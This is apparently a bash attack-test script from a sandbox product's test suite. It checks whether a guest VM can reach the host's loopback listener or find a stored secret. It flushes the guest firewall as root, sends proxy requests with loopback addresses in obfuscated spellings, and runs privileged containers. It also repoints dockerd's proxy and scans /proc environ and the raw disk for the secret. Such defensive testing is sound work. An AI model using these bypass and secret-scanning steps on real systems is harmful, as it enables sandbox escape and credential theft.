#!/bin/bash
# Egress: root in the guest flushes the firewall; --privileged/--net=host and bridged
# containers try to reach a listener on the HOST's 127.0.0.1 directly (slirp gateway
# 10.0.2.2, DNS 10.0.2.3, UDP DNS), and through the egress proxy with loopback spelled
# many ways (CONNECT/absolute-form, decimal/hex/IPv6-mapped/0/localhost.), and via
# dockerd's own daemon proxy settings. Plus: is a stored secret's real value anywhere inside?
source "$(dirname "$0")/lib.sh"
ensure_tool || setup_error "tool build"
PORT=$((20000 + RANDOM % 20000)); L=$ATK_BASE/listener.log
host_listener $PORT $L || setup_error "host listener"
: > $L
W=$ATK_BASE/ws; mkdir -p $W && (cd $W && git init -q && echo x > f && git add f && git -c user.email=a@b -c user.name=a commit -qm i) || setup_error repo
printf 'REAL-SECRET-%s' $RANDOM$RANDOM > $ATK_BASE/secretval
airlock secret set atk-token < $ATK_BASE/secretval >/dev/null 2>&1 || setup_error "secret set"
write_hcl $ATK_BASE/sb.hcl net1 $W clone 'credential "t" {
    secret = "atk-token"
    hosts  = ["api.github.com"]
    env    = "ATK_TOKEN"
  }
  network {
    allow = ["api.github.com"]
  }'
up_sbx $ATK_BASE/sb.hcl net1 || setup_error "up"
push_tool net1 || setup_error "push tool"
wait_docker net1 || setup_error "docker not ready"
build_atk_image net1 || setup_error "image"
P=$PORT
PROBES="tcp 10.0.2.2:$P GET\ /\ HTTP/1.0\n\n ; tcp 10.0.2.3:$P x\n ; tcp 10.0.2.2:22 x\n ; dns 10.0.2.3:53 ; dns 10.0.2.2:53 ;
tcp [fec0::2]:$P x\n ; tcp [::ffff:10.0.2.2]:$P x\n"
# the proxy variants are sent as raw requests (spaces need a shell, so we use bash /dev/tcp in the guest)
OUT=$ATK_BASE/out.txt
ax net1 sudo bash -c "iptables -F; iptables -t nat -F; iptables -P OUTPUT ACCEPT; iptables -P FORWARD ACCEPT; ip6tables -F 2>/dev/null
/tmp/atk multi '$PROBES'
for t in 127.0.0.1 localhost localhost. 2130706433 0x7f000001 0177.0.0.1 127.1 0 0.0.0.0 [::1] [::ffff:127.0.0.1] [::ffff:7f00:1] [::] 10.0.2.2 127.0.0.1.nip.io; do
  for form in connect abs; do
    exec 3<>/dev/tcp/127.0.0.1/3128 || { echo NOPROXY; continue; }
    if [ \$form = connect ]; then printf 'CONNECT %s:$P HTTP/1.1\r\nHost: %s:$P\r\n\r\nGET / HTTP/1.0\r\n\r\n' \$t \$t >&3
    else printf 'GET http://%s:$P/ HTTP/1.1\r\nHost: %s:$P\r\nConnection: close\r\n\r\n' \$t \$t >&3; fi
    echo \"PROXY \$form \$t: \$(timeout 5 head -c 300 <&3 | tr -d '\r' | tr '\n' '|')\"
    exec 3>&-
  done
done
# Host header / absolute URL mismatch and origin-form to the proxy itself
exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET / HTTP/1.1\r\nHost: 127.0.0.1:$P\r\n\r\n' >&3; echo \"PROXY origin: \$(timeout 5 head -c 200 <&3 | tr -d '\r' | tr '\n' '|')\"; exec 3>&-
env | grep -c ATK_TOKEN= | sed 's/^/TOKENVAR=/'
" > $OUT 2>&1
# containers: default bridge net and host net, privileged
ax net1 docker run --rm --privileged atk multi "$PROBES ; tcp 172.17.0.1:3128 x\n" >> $OUT 2>&1
ax net1 docker run --rm --privileged --net=host atk multi "$PROBES ; tcp 127.0.0.1:3128 CONNECT\ 127.0.0.1:$P\ HTTP/1.1\n\n" >> $OUT 2>&1
# dockerd's own proxy: point the daemon at the host loopback service as its "proxy" and pull through it
ax net1 sudo bash -c "mkdir -p /etc/docker; echo '{\"proxies\":{\"http-proxy\":\"http://10.0.2.2:$P\",\"https-proxy\":\"http://10.0.2.2:$P\"}}' > /etc/docker/daemon.json 2>/dev/null; HTTP_PROXY=http://10.0.2.2:$P HTTPS_PROXY=http://10.0.2.2:$P timeout 60 docker pull 10.0.2.2:$P/x 2>&1 | tail -1 | sed 's/^/PULL1 /'; timeout 60 docker pull 127.0.0.1:$P/x 2>&1 | tail -1 | sed 's/^/PULL2 /'" >> $OUT 2>&1
# secret: search the guest (env of every process, /etc, /run, home, the disk) for the real value
SV=$(cat $ATK_BASE/secretval)
ax net1 sudo bash -c 'read -r SV; for f in $(grep -rlF "$SV" /etc /run /home /root /tmp /var/lib/docker/containers 2>/dev/null); do echo "SECRETHIT $f"; done; for p in /proc/[0-9]*; do [ "$p" = /proc/$$ ] && continue; grep -qF "$SV" $p/environ 2>/dev/null && echo "SECRETHIT $p $(tr "\0" " " < $p/cmdline)"; done; echo DISKHITS=$(grep -caF "$SV" /dev/vda); echo SECRETSCAN-DONE' < $ATK_BASE/secretval >> $OUT 2>&1
cat $OUT >&2
sleep 1
# setup checks: the probes ran, the proxy answered, and the token placeholder exists
grep -q "TCP 10.0.2.2:$P" $OUT && grep -q 'PROXY connect 127.0.0.1: HTTP/1.1' $OUT && grep -q 'TOKENVAR=1' $OUT || setup_error "probes did not run"
[ $(grep -c "TCP 10.0.2.2:$P" $OUT) -ge 3 ] || setup_error "container probes missing"
FAIL=()
grep -v selftest $L | grep -q CONN && FAIL+=("host loopback listener got a connection: $(cat $L | tr '\n' ' ')")
grep -q HOSTSECRET $OUT && FAIL+=("host listener's response reached the guest")
grep -q 'ANSWER' $OUT && grep 'UDP' $OUT | grep -q ' ANSWER ' && FAIL+=("DNS answered")
grep -q "$SV" $OUT && FAIL+=("real secret value visible inside")
grep -q SECRETHIT $OUT && FAIL+=("real secret value found inside: $(grep SECRETHIT $OUT)")
grep -q SECRETSCAN-DONE $OUT || setup_error "secret scan did not run"
grep -E 'DISKHITS=[1-9]' $OUT && FAIL+=("secret on guest disk")
airlock policy log net1 > $ATK_BASE/policy.log 2>&1; head -5 $ATK_BASE/policy.log >&2
printf 'finding: %s\n' "${FAIL[@]}" >&2
[ ${#FAIL[@]} -eq 0 ] && defended || succeeded
